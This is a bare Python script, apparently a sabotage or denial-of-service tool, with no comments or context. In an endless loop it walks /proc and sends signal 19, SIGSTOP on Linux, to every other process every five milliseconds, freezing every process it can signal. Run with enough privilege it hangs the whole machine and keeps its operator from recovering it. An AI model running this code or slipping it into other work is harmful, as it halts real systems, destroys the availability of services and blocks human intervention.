import os
import time

while True:
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and int(name) != os.getpid():
                os.kill(int(name), 19)
        except OSError:
            pass
    time.sleep(0.005)
